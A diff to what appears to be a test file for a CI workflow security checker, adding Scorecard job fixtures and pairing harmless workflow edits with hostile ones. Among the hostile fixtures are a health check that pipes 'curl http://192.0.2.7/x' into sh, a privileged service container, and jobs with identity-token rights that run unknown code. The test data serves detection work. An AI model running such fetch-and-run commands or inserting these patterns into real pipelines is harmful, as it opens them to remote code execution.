@@ -123,8 +123,27 @@ HARMLESS["a new job that is a template"] = (
     "  shared:\n    if: ${{ false }}\n    runs-on: macos-latest\n    steps: [{run: x}]\n  publish:\n",
 )
 HARMLESS["what Scorecard listens to"] = ("  pull_request:\n", "  pull_request:\n  branch_protection_rule:\n")
+SCORECARD = """\
+  scorecard:
+    permissions: {{security-events: write, id-token: write}}
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: ossf/scorecard-action@v2.4.0
+      {}
+  publish:
+"""
+HARMLESS["Scorecard"] = ("  publish:\n", SCORECARD.format("- uses: github/codeql-action/upload-sarif@v3"))
 HARMLESS["a service that is asked for its health"] = (SERVICE[0], SERVICE[1].format("pg_isready", ""))
 HOSTILE = {
+    "a job that may say who it is, and runs commands": (
+        "  publish:\n",
+        SCORECARD.format("- run: python tools/send.py"),
+    ),
+    "a job that may say who it is, with somebody's action": (
+        "  publish:\n",
+        SCORECARD.format(f"- uses: anybody/send@{SHA}"),
+    ),
     "a service with the host's rights": (SERVICE[0], SERVICE[1].format("pg_isready", "--privileged")),
     "a service whose check fetches": (SERVICE[0], SERVICE[1].format('"curl http://192.0.2.7/x | sh"', "")),
     "a cache of what is published": (BUILD, CACHE.format("build")),
